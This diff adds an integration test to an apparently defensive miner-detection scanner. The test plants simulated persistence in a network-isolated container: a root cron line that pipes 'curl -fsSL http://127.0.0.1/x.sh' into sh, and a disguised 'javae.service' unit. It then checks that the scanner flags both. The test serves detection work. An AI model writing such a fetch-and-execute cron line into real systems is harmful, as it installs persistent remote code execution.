@@ -175,5 +175,32 @@ TEST_F(ContainerTest, FilesDroppedInContainerTmpAreReportedAgainstIt) {
   }
 }
 
+// A dropper that wins a container writes its restart there: a cron file and a
+// unit inside the container are judged as persistence and named by container.
+TEST_F(ContainerTest, PersistenceWrittenInsideAContainerIsReportedAgainstIt) {
+  const std::string name = fmt::format("deminer-it-cron-{}", getpid());
+  const std::string plant =
+      "mkdir -p /etc/cron.d /etc/systemd/system && "
+      "echo '*/5 * * * * root curl -fsSL http://127.0.0.1/x.sh | sh' > /etc/cron.d/update && "
+      "echo '[Service]' > /etc/systemd/system/javae.service && exec sleep 600";
+  ASSERT_FALSE(podman_->RunDetached(name, {"--network", "none"}, {"sh", "-c", plant}).empty());
+  const std::map<std::string, std::string> env = {{"DOCKER_HOST", "unix://" + podman_->socket()}};
+  nlohmann::json scan;
+  for (int i = 0; i < 50; ++i) {
+    scan = ScanJson({"--only", "persistence"}, env);
+    if (!InContainer(scan, "persist.systemd", name).empty()) break;
+    std::this_thread::sleep_for(std::chrono::milliseconds(200));
+  }
+  const auto cron = InContainer(scan, "persist.cron", name);
+  ASSERT_EQ(cron.size(), 1u) << scan.dump(2);
+  EXPECT_EQ(cron[0]["path"], "/etc/cron.d/update");
+  EXPECT_EQ(cron[0]["line"], 1);
+  EXPECT_EQ(cron[0]["severity"], "high");
+  EXPECT_EQ(cron[0]["subject"], "/etc/cron.d/update:1 in container " + name);
+  const auto unit = InContainer(scan, "persist.systemd", name);
+  ASSERT_EQ(unit.size(), 1u);
+  EXPECT_EQ(unit[0]["severity"], "critical");  // named like seed 000's miner
+}
+
 }  // namespace
 }  // namespace deminer::it
